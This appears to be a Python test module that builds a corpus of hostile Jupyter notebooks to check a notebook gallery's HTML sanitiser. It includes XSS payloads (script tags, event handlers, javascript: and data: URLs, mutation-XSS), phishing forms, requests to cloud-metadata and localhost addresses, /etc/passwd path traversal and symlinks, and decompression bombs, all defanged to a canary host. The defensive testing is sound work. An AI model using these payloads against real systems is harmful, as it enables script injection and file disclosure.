"""The hostile corpus: notebooks that try to run script, load from elsewhere, escape the frame,
or take the renderer down. `cases()` builds them in memory (nothing large is checked in).

Every case says what the gallery must do with it: refuse it at staging with a 4xx status,
or render a preview (and, for some, show a given text, such as a notice or a truncation
note). Payloads that would run script call alert(), set `document.title` to "PWNED", or
request http://canary.invalid/..., so a browser test can see any of them go off.
"""

from __future__ import annotations

import base64
import io
import itertools
import json
import os
import struct
import zlib
from dataclasses import dataclass, field
from functools import cache
from html.parser import HTMLParser
from pathlib import Path

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from gallery.previews import ALLOWED_TAGS, ExampleSource

CANARY = "http://canary.invalid"
# Where the link cases' links lead: the browser test answers it (a page out of the gallery).
OUTSIDE = "https://outside.test"
JS = f"alert(1);document.title='PWNED';fetch('{CANARY}/js')"


@dataclass
class Case:
    name: str
    data: bytes
    expect: int | str = "render"  # "render", or the HTTP status of the refusal
    shows: list[str] = field(default_factory=list)  # text the rendered page must contain
    hides: list[str] = field(default_factory=list)  # text it must not contain (raw markup)
    files: dict[str, bytes] = field(default_factory=dict)  # other files of the example
    # Symlinks put into the example's folder once staged (no upload can make one): path ->
    # target. They point out of the folder.
    symlinks: dict[str, str] = field(default_factory=dict)


NOTEBOOK = "notebook.ipynb"  # the name a case's notebook has in its example


def write_example(case: Case, folder: Path) -> ExampleSource:
    """A case as an example folder on disk (notebook, files, symlinks), as staging leaves it."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).write_bytes(case.data)
    for name, data in case.files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    add_symlinks(case, folder)
    return ExampleSource(folder=str(folder), notebook=NOTEBOOK)


def add_symlinks(case: Case, folder: Path) -> None:
    for name, target in case.symlinks.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, folder / name)


def _nb(*cells: dict, metadata: dict | None = None) -> bytes:
    nb = {"nbformat": 4, "nbformat_minor": 5, "cells": list(cells), "metadata": metadata or {
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}}
    return json.dumps(nb).encode()  # nbformat's writer validates: slow for the big ones


def _code(source: str, outputs: list[dict] | None = None, count: int = 1) -> dict:
    """A code cell as a plain dict: nbformat's helpers validate each one, slow by the 10,000."""
    return {"cell_type": "code", "id": f"c{next(_ids)}", "metadata": {}, "source": source,
            "outputs": outputs or [], "execution_count": count}


_ids = itertools.count()


def _out(data: dict, metadata: dict | None = None, kind: str = "display_data") -> dict:
    if kind == "execute_result":
        return new_output(kind, data=data, metadata=metadata or {}, execution_count=1)
    return new_output(kind, data=data, metadata=metadata or {})


def _html(markup: str) -> bytes:
    return _nb(new_code_cell("show()", execution_count=1,
                             outputs=[_out({"text/html": markup, "text/plain": "<HTML>"})]))


def _md(text: str, **kw: dict) -> bytes:
    return _nb(new_markdown_cell(text, **kw))


@cache
def png(width: int = 4, height: int = 3) -> str:
    """A small PNG, base64."""
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buf, "PNG")
    return base64.b64encode(buf.getvalue()).decode()


@cache
def png_bomb(side: int = 30_000) -> str:
    """A 1-bit greyscale PNG of side x side pixels, all zero: ~110 KB compressed."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (struct.pack(">I", len(body)) + kind + body
                + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF))

    rows = b"\0" * (1 + (side + 7) // 8) * 100
    packer = zlib.compressobj(1)
    idat = b"".join(packer.compress(rows) for _ in range(side // 100)) + packer.flush()
    raw = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
           + chunk(b"IDAT", idat) + chunk(b"IEND", b""))
    return base64.b64encode(raw).decode()


SVG_SCRIPT = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script>'
              f'<image href="{CANARY}/svg.png" width="10" height="10"/>'
              '<circle r="5" cx="5" cy="5"/></svg>')


def cases() -> list[Case]:  # noqa: PLR0915 - one list, read top to bottom
    """All cases, in a stable order."""
    c: list[Case] = []
    add = c.append

    # --- HTML outputs -------------------------------------------------------------------
    add(Case("html-script-tag", _html(f"<b>bold</b><script>{JS}</script>"), shows=["bold"]))
    add(Case("html-event-handlers", _html(
        f'<img src="x" onerror="{JS}"><body onload="{JS}"><div onmouseover="{JS}">hover me</div>'
        f'<details open ontoggle="{JS}"><summary>s</summary></details>'
        f'<input autofocus onfocus="{JS}">'), shows=["hover me"]))
    add(Case("html-svg-inline", _html(SVG_SCRIPT + f'<svg><animate onbegin="{JS}"/></svg>')))
    add(Case("html-javascript-urls", _html(
        '<a href="javascript:alert(1)">a</a><a href=" javascript:alert(1)">b</a>'
        '<a href="jav&#x09;ascript:alert(1)">c</a><a href="JaVaScRiPt:alert(1)">d</a>'
        '<a href="javascript\u200b:alert(1)">e</a>'
        '<a href="vbscript:msgbox(1)">f</a>'), shows=["a", "f"]))
    add(Case("html-data-urls", _html(
        '<a href="data:text/html,<script>alert(1)</script>">d1</a>'
        '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>'
        '<img src="data:image/svg+xml;base64,'
        + base64.b64encode(SVG_SCRIPT.encode()).decode() + '">'
        '<object data="data:text/html,<script>alert(1)</script>"></object>'), shows=["d1"]))
    add(Case("html-frames-and-embeds", _html(
        f'<iframe src="{CANARY}/frame"></iframe><iframe srcdoc="<script>{JS}</script>"></iframe>'
        f'<embed src="{CANARY}/embed.swf"><object data="{CANARY}/obj"></object>'
        f'<portal src="{CANARY}/portal"></portal>')))
    add(Case("html-forms", _html(
        f'<form action="{CANARY}/phish" method="post"><input name="password" type="password">'
        f'<button formaction="{CANARY}/fa">Log in again</button></form>'
        f'<button form="f" formaction="javascript:alert(1)">x</button>'),
        shows=["Log in again"]))
    add(Case("html-css-overlay", _html(
        '<style>body{display:none} *{background:url(' + CANARY + '/css.png)}</style>'
        f'<link rel="stylesheet" href="{CANARY}/x.css">'
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;'
        f'background:url({CANARY}/bg.png)">Session expired, click here</div>'),
        shows=["Session expired"]))
    add(Case("html-dom-clobbering", _html(
        '<form id="defaultView" name="body"><input name="attributes"></form>'
        '<img name="getElementById"><a id="CONFIG" href="javascript:alert(1)">c</a>'
        '<div id="__proto__" name="cookie">clobber</div>'), shows=["clobber"]))
    add(Case("html-meta-base-refresh", _html(
        f'<meta http-equiv="refresh" content="0;url={CANARY}/refresh">'
        f'<base href="{CANARY}/"><a href="relative">rel</a><img src="relative.png">'),
        shows=["rel"]))
    add(Case("html-mutation-xss", _html(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
        '<svg><style><img src=x onerror=alert(1)></style></svg>'
        '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>'
        '<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>'
        '<textarea></textarea><img src=x onerror=alert(1)></textarea>')))
    add(Case("html-remote-and-internal-images", _html(
        f'<img src="{CANARY}/pixel.png"><img src="http://169.254.169.254/latest/meta-data/">'
        '<img src="http://127.0.0.1:6379/"><img src="/admin/"><img src="//canary.invalid/p">'
        f'<img srcset="{CANARY}/a.png 1x"><video poster="{CANARY}/v.png"></video>'
        f'<audio src="{CANARY}/a.mp3"></audio><picture><source srcset="{CANARY}/s.png">'
        '</picture>')))
    add(Case("html-plotly-inline-script", _nb(new_code_cell("fig.show()", execution_count=1,
        outputs=[_out({"text/html": '<div id="plot">plot</div><script>require(["plotly"],'
                                    f'function(P){{{JS}}})</script>',
                       "application/vnd.plotly.v1+json": {"data": [], "layout": {}},
                       "text/plain": "Figure()"})]))))
    add(Case("html-commandlinker-buttons", _html(
        '<button data-commandlinker-command="terminal:create-new" '
        f'onclick="{JS}">Open terminal</button><a target="_top" href="{CANARY}/top">top</a>'
        '<a target="_blank" href="https://example.org/">ok link</a>'), shows=["ok link"]))
    add(Case("html-deeply-nested", _html("<div>" * 30_000 + "deep" + "</div>" * 30_000)))
    add(Case("html-huge-output", _html("<p>" + "x" * 3_000_000 + "</p>"),
             shows=["Not shown in the preview"]))
    add(Case("html-bomb-image-inside", _html(
        f'<img src="data:image/png;base64,{png_bomb()}"><p>after bomb</p>'),
        shows=["after bomb"]))

    # --- markdown ------------------------------------------------------------------------
    add(Case("md-raw-html", _md(
        f"# Title\n\n<script>{JS}</script>\n\n<img src=x onerror=\"{JS}\">\n\n"
        f"Text with <span onmouseover=\"{JS}\">span</span>."), shows=["Title", "span"]))
    add(Case("md-javascript-links", _md(
        "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) "
        "![img](javascript:alert(1)) [ok](https://example.org/) <javascript:alert(1)>\n\n"
        "[ref]: javascript:alert(1)\n\n[r][ref]"), shows=["click", "ok"]))
    add(Case("md-remote-images", _md(
        f"![t]({CANARY}/t.png) ![p](/etc/passwd) ![f](file:///etc/passwd) "
        "![m](http://169.254.169.254/latest/meta-data/) ![r](../../secret.png)")))
    add(Case("md-attachment-image", _nb(new_markdown_cell(
        "An attached image: ![a](attachment:a.png)",
        attachments={"a.png": {"image/png": png()}})), shows=["An attached image"]))
    add(Case("md-attachment-missing", _md("Before ![m](attachment:missing.png) after"),
             shows=["Before", "after"]))
    add(Case("md-attachment-svg-script", _nb(new_markdown_cell(
        "svg attachment ![s](attachment:s.svg)", attachments={"s.svg": {
            "image/svg+xml": base64.b64encode(SVG_SCRIPT.encode()).decode()}})),
        shows=["svg attachment"]))
    add(Case("md-math-gadgets", _md(
        "Math $x</span><img src=x onerror=alert(1)>$ and\n\n"
        "$$\\href{javascript:alert(1)}{click} \\unicode{<img src=x onerror=alert(1)>}$$\n\n"
        "\\(\\style{background:url(" + CANARY + "/m.png)}{x}\\)"), shows=["\\href"]))
    add(Case("md-pathological-brackets", _md("[" * 50_000)))
    add(Case("md-pathological-emphasis", _md("*a " * 20_000 + "_" * 20_000 + "`" * 20_000)))
    add(Case("md-deep-blockquote", _md(">" * 5_000 + " deep quote")))
    add(Case("md-deep-lists", _md("".join("  " * i + "- item\n" for i in range(1_500)))))
    add(Case("md-html-comment-tricks", _md(
        f"<!--><script>{JS}</script>-->\n\n<!-- --!><img src=x onerror=alert(1)> -->\n\ndone"),
        shows=["done"]))

    # --- outputs of other types ---------------------------------------------------------
    add(Case("out-javascript", _nb(new_code_cell("display(Javascript())", execution_count=1,
        outputs=[_out({"application/javascript": JS})])), shows=["JavaScript output"]))
    widget_state = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {"m1": {
            "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
            "model_module_version": "2.0.0",
            "state": {"value": f"<img src=x onerror=\"{JS}\">"}}}}}
    add(Case("out-widget", _nb(new_code_cell("w", execution_count=1, outputs=[_out({
        "application/vnd.jupyter.widget-view+json": {"model_id": "m1", "version_major": 2,
                                                     "version_minor": 0},
        "text/plain": "HTML(value='...')"})]), metadata={"widgets": widget_state}),
        shows=["interactive widget"]))
    add(Case("out-mermaid", _nb(new_code_cell("diagram", execution_count=1, outputs=[_out({
        "text/vnd.mermaid": f"graph TD\nA[\"</pre><img src=x onerror=\\\"{JS}\\\">\"] --> B\n"
                            "click A call alert(1)"})])), shows=["graph TD"]))
    add(Case("out-svg-script", _nb(new_code_cell("svg", execution_count=1, outputs=[
        _out({"image/svg+xml": SVG_SCRIPT})]))))
    add(Case("out-image-size-breakout", _nb(new_code_cell("img", execution_count=1, outputs=[
        _out({"image/png": png()}, {"image/png": {"width": f"1 onload={JS}",
                                                  "height": "1\" onerror=\"alert(1)"}}),
        _out({"image/jpeg": png()}, {"image/jpeg": {"width": 10**12, "height": -5}})]))))
    add(Case("out-image-data-breakout", _nb(new_code_cell("img", execution_count=1, outputs=[
        _out({"image/png": f'"><img src=x onerror="{JS}">'}),
        _out({"image/gif": "R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs="})])),
        shows=["not base64"]))
    add(Case("out-image-filenames", _nb(new_code_cell("img", execution_count=1, outputs=[
        _out({"image/png": png()}, {
            "filenames": {"image/png": f"../../etc/passwd\" onerror=\"{JS}"},
            "image/png": {"unconfined": f"\" onload=\"{JS}"}})]))))
    add(Case("out-latex", _nb(new_code_cell("tex", execution_count=1, outputs=[_out({
        "text/latex": f"$\\href{{javascript:alert(1)}}{{x}}$</div><script>{JS}</script>"})])),
        shows=["</div><script>"]))
    add(Case("out-markdown", _nb(new_code_cell("md", execution_count=1, outputs=[_out({
        "text/markdown": f"**bold** <img src=x onerror=\"{JS}\"> [x](javascript:alert(1))"},
        kind="execute_result")])), shows=["bold"]))
    add(Case("out-unknown-mimes", _nb(new_code_cell("plots", execution_count=1, outputs=[
        _out({"application/vnd.bokehjs_exec.v0+json": {"id": "1"},
              "application/vnd.vegalite.v5+json": {"$schema": f"{CANARY}/vega"}}),
        _out({"application/pdf": "JVBERi0xLjQK"})])), shows=["not shown in the preview"]))
    add(Case("out-stream-markup", _nb(new_code_cell("print()", execution_count=1, outputs=[
        new_output("stream", name="stdout",
                   text=f"<script>{JS}</script>\x1b[31m<img src=x onerror=alert(1)>\x1b[0m\n"),
        new_output("stream", name="stderr", text="warning <b>not bold</b>\n")])),
        shows=["<script>", "not bold"]))
    add(Case("out-error-traceback", _nb(new_code_cell("1/0", execution_count=1, outputs=[
        new_output("error", ename="<b>E</b>", evalue=f"<script>{JS}</script>",
                   traceback=[f"\x1b[31m<img src=x onerror=\"{JS}\">\x1b[0m", "ZeroDivision"])])),
        shows=["ZeroDivision"]))
    add(Case("out-huge-stream", _nb(new_code_cell("print('x' * big)", execution_count=1,
        outputs=[new_output("stream", name="stdout", text="x" * 3_000_000)])),
        shows=["output truncated"]))
    add(Case("out-decompression-bomb", _nb(new_code_cell("Image.open(bomb)", execution_count=1,
        outputs=[_out({"image/png": png_bomb(), "text/plain": "<PIL.Image>"})])),
        shows=["<PIL.Image>"]))
    add(Case("out-bomb-only", _nb(new_code_cell("bomb", execution_count=1,
        outputs=[_out({"image/png": png_bomb()})])), shows=["decompression bomb"]))
    add(Case("out-5k-outputs", _nb(_code("for i in range(5000): print(i)", [
        {"output_type": "stream", "name": "stdout", "text": f"{i}\n"} for i in range(5_000)])),
        shows=["4999"]))

    # --- metadata and cells --------------------------------------------------------------
    add(Case("meta-title", _nb(new_code_cell("1"), metadata={
        "title": f"</title><script>{JS}</script>",
        "kernelspec": {"name": f"\"><script>{JS}</script>", "display_name": "x"}})))
    add(Case("meta-lexer", _nb(new_code_cell("x = 1", execution_count=1), metadata={
        "language_info": {"name": "python", "pygments_lexer": f"\"><script>{JS}</script>"}})))
    add(Case("meta-tags-and-hidden", _nb(
        new_code_cell("secret_hidden_code = 1", execution_count=1, metadata={
            "tags": [f"\"><img src=x onerror=\"{JS}\">", "remove_input", "hide-cell"],
            "jupyter": {"source_hidden": True, "outputs_hidden": True},
            "transient": {"remove_source": True}}),
        new_markdown_cell("hidden markdown text", metadata={"transient": {"remove_source": True}})),
        shows=["secret_hidden_code", "hidden markdown text"]))
    add(Case("raw-cells", _nb(
        new_raw_cell(f"<script>{JS}</script>raw html", metadata={"raw_mimetype": "text/html"}),
        new_raw_cell("plain raw", metadata={"format": "text/restructuredtext"})),
        shows=["raw html", "plain raw"]))
    old = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": [
        {"cell_type": "code", "input": "x", "language": "python", "prompt_number": 1,
         "outputs": [{"output_type": "display_data", "html": f"<script>{JS}</script>v3 html",
                      "metadata": {}}]}]}]}
    add(Case("v3-upgraded", json.dumps(old).encode(), shows=["v3 html"]))
    many = _nb(*(_code(f"x = {i}", count=i) if i % 2 else
                 {"cell_type": "markdown", "id": f"m{i}", "metadata": {}, "source": f"cell {i}"}
                 for i in range(10_000)))
    add(Case("dos-10k-cells", many, shows=["cell 9998"]))

    # --- mathematics: TeX made MathML, and MathML written by hand ------------------------
    mathml = ('<math display="block"><mrow href="javascript:alert(1)">'
              '<mi xlink:href="javascript:alert(1)" href="javascript:alert(1)">hrefx</mi></mrow>'
              f'<mi style="background:url({CANARY}/style.png)" onclick="{JS}">styled</mi>'
              '<maction actiontype="statusline"><mi>act</mi><mtext>javascript:alert(1)</mtext>'
              '</maction><semantics><mi>sem</mi><annotation-xml encoding="text/html">'
              f'<img src=x onerror="{JS}"><a href="javascript:alert(1)">annot</a>'
              '</annotation-xml><annotation encoding="text/html">&lt;b&gt;</annotation>'
              '</semantics><mtext><a href="javascript:alert(1)">mlink</a>'
              f'<img src="{CANARY}/m.png"></mtext><mglyph src="{CANARY}/g.png"/>'
              f'<mspace width="url({CANARY}/w)" mathbackground="url({CANARY}/b)"/></math>')
    add(Case("mathml-links-styles-actions", _nb(
        new_markdown_cell("Hand-written MathML " + mathml),
        new_code_cell("m", execution_count=1, outputs=[_out({"text/html": mathml})])),
        shows=["hrefx", "styled", "mlink"]))
    tex = ("$\\href{javascript:alert(1)}{click}$ and $$\\style{background:url(" + CANARY
           + "/s.png)}{styled}$$ and $\\class{x\" onmouseover=\"" + JS + "}{y}$ and "
           "$\\color{url(" + CANARY + "/c.png)}{z}$ and $\\text{<img src=x onerror=alert(1)>}$"
           " and $\\unicode{<img src=x onerror=alert(1)>}$ and "
           "$\\mathrm{</math><img src=x onerror=alert(1)>}$ and "
           "\\begin{equation}\\href{" + CANARY + "/eq}{e}\\end{equation} and "
           "\\(\\cssId{a}{\\href{javascript:alert(1)}{b}}\\)")
    add(Case("tex-href-style-unicode", _nb(
        new_markdown_cell(tex),
        new_code_cell("tex", execution_count=1, outputs=[_out({"text/latex": tex})])),
        shows=["\\unicode{<img"]))
    add(Case("tex-huge-and-nested", _nb(new_markdown_cell(
        "$" + "x+" * 100_000 + "x$\n\n$$" + "{" * 5_000 + "x" + "}" * 5_000 + "$$\n\n"
        "$" + "\\sqrt{" * 300 + "x" + "}" * 300 + "$\n\n$" + "\\left(" * 2_000 + "x"
        + "\\right)" * 2_000 + "$\n\n" + "\\begin{matrix}" * 100 + "x" + "\\end{matrix}" * 100
        + "\n\nafter the deep TeX"),
        new_markdown_cell(" ".join(f"$x_{{{i}}} + y^{{{i}}}$" for i in range(30_000)))),
        shows=["after the deep TeX", "$x+x+x+"]))

    # --- the example's own files: paths that lead out, links, symlinks ---------------------
    add(Case("files-paths-out-of-the-example", _nb(new_markdown_cell(
        "![a](../../etc/passwd) ![b](/etc/passwd) ![c](file:///etc/passwd) "
        "![d](figures/../../secret.png) ![e](figures/%2e%2e/%2e%2e/etc/passwd) "
        "![w](figures\\..\\..\\x.png) ![h](//canary.invalid/x.png)\n\n"
        '<img src="../outside.png"> <img src="/etc/hostname"> <img src="file:///etc/hostname">'
        ' <img src="file:figures/fit.png">\n\n'
        "[l](../../etc/passwd) [m](file:///etc/passwd) [n](/admin/) [o](../other/x.ipynb)"
        " shown figure ![fit](figures/fit.png)")),
        files={"figures/fit.png": base64.b64decode(png())},
        shows=["leaves the example's folder", "not a path inside the example",
               "a file: URL is not shown", "shown figure"]))
    add(Case("files-symlinks-out", _nb(new_markdown_cell(
        "![l](figures/leak.png) ![u](figures/up/outside.png) ![d](figures/etc/hostname) "
        '<img src="figures/leak.png"> [x](figures/leak.png) [y](figures/etc/passwd)'
        " ![ok](figures/ok.png) end of links")),
        files={"figures/ok.png": base64.b64decode(png())},
        symlinks={"figures/leak.png": "/etc/passwd", "figures/up": "../..",
                  "figures/etc": "/etc"},
        shows=["leaves the example's folder", "end of links"], hides=["root:"]))
    add(Case("files-that-are-not-figures", _nb(new_markdown_cell(
        "![c](data.csv) ![f](fake.png) ![s](evil.svg) ![b](bomb.png) ![m](missing.png) "
        "![d](figures) [folder](figures) [data](data.csv)")),
        files={"data.csv": b"a,b\n1,2\n", "fake.png": f"<script>{JS}</script>".encode(),
               "evil.svg": SVG_SCRIPT.encode(), "bomb.png": base64.b64decode(png_bomb()),
               "figures/x.txt": b"x"},
        shows=["not a PNG, JPEG, GIF or SVG", "decompression bomb", "not found in the example"]))

    # --- links: every one is clicked in the browser test ---------------------------------
    # Only http(s) links may open, and only in a new tab without opener or referrer; none may
    # run script, navigate the frame or the page around it, submit, ping or refresh.
    out = OUTSIDE
    add(Case("links-targets-and-escapes", _nb(
        new_markdown_cell(f"[md link]({out}/md) <{out}/auto> [md js](javascript:alert(1)) "
                          f"[md data](data:text/html,<script>alert(1)</script>)\n\n"
                          f'<a href="{out}/raw-md" target="_top">md top</a>'),
        new_code_cell("links", execution_count=1, outputs=[_out({"text/html": (
            f'<a href="{out}/top" target="_top">top link</a> '
            f'<a href="{out}/parent" target="_parent">parent link</a> '
            f'<a href="{out}/named" target="gallery-main">named link</a> '
            f'<a href="{out}/ping" ping="{CANARY}/ping">ping link</a> '
            f'<a href="{out}/opener" rel="opener" referrerpolicy="unsafe-url">opener link</a> '
            '<a href="javascript:alert(1)" target="_blank">js blank</a> '
            '<a href="  JaVaScRiPt:document.title=\'PWNED\'" target="_top">js top</a> '
            '<a href="data:text/html,<script>alert(1)</script>" target="_blank">data blank</a> '
            '<a href="vbscript:msgbox(1)" target="_blank">vb blank</a> '
            f'<form action="{CANARY}/form" target="_blank"><button formtarget="_top" '
            f'formaction="{CANARY}/button">form button</button></form> '
            f'<base href="{CANARY}/" target="_top"><a href="relative">relative link</a> '
            f'<meta http-equiv="refresh" content="0;url={CANARY}/refresh"> '
            '<svg><a href="javascript:alert(1)"><text y="10">svg link</text></a></svg> '
            f'<map name="m"><area href="{CANARY}/area" target="_top" shape="default"></map>'
            '<img usemap="#m" alt="area image"> '
            '<math><mtext><a href="javascript:alert(1)">math link</a></mtext></math>'),
            "text/plain": "<links>"})])),
        shows=["md link", "top link", "ping link", "js blank", "form button", "relative link",
               "math link"]))

    # --- refused at staging ---------------------------------------------------------------
    add(Case("bad-execution-count", json.dumps({**json.loads(_nb(new_code_cell("1"))), "cells": [
        {"cell_type": "code", "id": "a1", "metadata": {}, "source": "1", "outputs": [],
         "execution_count": f"<img src=x onerror=\"{JS}\">"}]}).encode(), expect=400))
    add(Case("bad-cell-id", json.dumps({**json.loads(_nb(new_code_cell("1"))), "cells": [
        {"cell_type": "markdown", "id": f"\"><img src=x onerror=\"{JS}\">", "metadata": {},
         "source": "x"}]}).encode(), expect=400))
    add(Case("bad-truncated-json", _nb(new_code_cell("1"))[:-20], expect=400))
    add(Case("bad-invalid-utf8", b'{"cells": [], "metadata": {}, "nbformat": 4, '
                                 b'"nbformat_minor": 5, "x": "\xff\xfe"}', expect=400))
    add(Case("bad-json-array", b"[1, 2, 3]", expect=400))
    add(Case("bad-nbformat-99", json.dumps({"nbformat": 99, "nbformat_minor": 0,
                                            "cells": [], "metadata": {}}).encode(), expect=400))
    add(Case("bad-deep-nesting", b'{"cells": [], "metadata": {"a": ' + b"[" * 100_000
             + b"]" * 100_000 + b'}, "nbformat": 4, "nbformat_minor": 5}', expect=400))
    add(Case("bad-oversized", _nb(new_code_cell("x", execution_count=1, outputs=[
        new_output("stream", name="stdout", text="y" * 7_000_000)])), expect=413))
    return c


OVERSIZED_LIMIT = 6 * 1024 * 1024  # the upload limit under which `bad-oversized` is refused


# The gallery's own addresses a preview may link to: another notebook's preview, the page of
# the example (tests serve previews from the gallery or from GALLERY_PREVIEW_BASE_URL).
LINKS_INSIDE = ("/previews/", "/examples/")


class Latent(HTMLParser):
    """Everything in a page that could run, load or navigate, were the CSP ever missing."""

    ALLOWED = {"html", "head", "meta", "title", "link", "body", "main"} | ALLOWED_TAGS

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.ALLOWED:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name in {"style", "srcset", "formaction"} or (
                    name == "name" and tag != "meta"):
                self.found.append(f"<{tag} {name}>")
            if name == "id" and not value.startswith("nb-"):  # only anchors, prefixed
                self.found.append(f"<{tag} id={value[:40]}>")
            if name == "src" and not value.startswith("data:image/"):
                self.found.append(f"<{tag} src={value[:40]}>")
            if name == "href" and tag not in ("a", "link") or (
                    name == "href" and tag == "a" and not value.startswith(
                        ("http:", "https:", "mailto:", "#", *LINKS_INSIDE))):
                self.found.append(f"<{tag} href={value[:40]}>")
            if tag == "link" and (name == "href" and not value.startswith("preview-")):
                self.found.append(f"<link href={value[:40]}>")
            if tag == "meta" and name == "http-equiv" and value != "content-security-policy":
                self.found.append(f"<meta http-equiv={value}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def latent(page: str) -> tuple[list[str], str]:
    parser = Latent()
    parser.feed(page)
    return parser.found, "".join(parser.text)
